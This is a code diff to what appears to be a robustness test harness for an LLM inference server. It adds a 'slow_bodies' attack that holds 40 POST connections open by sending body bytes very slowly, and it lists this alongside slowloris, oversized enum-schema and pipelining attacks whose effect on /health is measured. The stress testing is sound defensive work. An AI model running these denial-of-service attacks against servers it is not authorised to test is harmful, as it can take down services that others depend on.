@@ -165,6 +165,29 @@ def slowloris(n=40):
         s.close()
     return statuses + [f"/health in {answered[0]:.1f}s" if answered else "/health timed out"]
 
+def slow_bodies(n=40):
+    # Half chunked, half by Content-Length: each sends a byte of its body a second and never ends.
+    socks = []
+    for i in range(n):
+        s = connect()
+        framing = "Transfer-Encoding: chunked\r\n\r\n100\r\n" if i % 2 == 0 else "Content-Length: 256\r\n\r\n"
+        s.sendall(f"POST /tokenize HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{framing}{{".encode())
+        socks.append(s)
+    t0 = time.time()
+    answered = []
+    probe = threading.Thread(target=lambda: answered.append(alive()[1]))
+    probe.start()
+    while probe.is_alive() and time.time() - t0 < 60:
+        for s in socks:
+            try:
+                s.sendall(b" ")
+            except OSError:
+                pass
+        probe.join(1)
+    for s in socks:
+        s.close()
+    return [f"/health in {answered[0]:.1f}s" if answered else "/health timed out"]
+
 def pipelined():
     s = connect()
     s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * 4 + b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
@@ -184,6 +207,7 @@ attacks = [
     ("3 MB enum schema", lambda: [post("/v1/chat/completions", enum_schema(3000, 1000))]),
     ("200 distinct 60 KB enum schemas", lambda: [post("/v1/chat/completions", enum_schema(600, 90, tag=i)) for i in range(200)]),
     ("40 slow-header connections", slowloris),
+    ("40 slow-body connections", slow_bodies),
     ("5 pipelined requests", pipelined),
 ]
 print(f"{'attack':34} {'answers':40} {'seconds':>8} {'peak MiB':>9} {'healthy after':>14}")
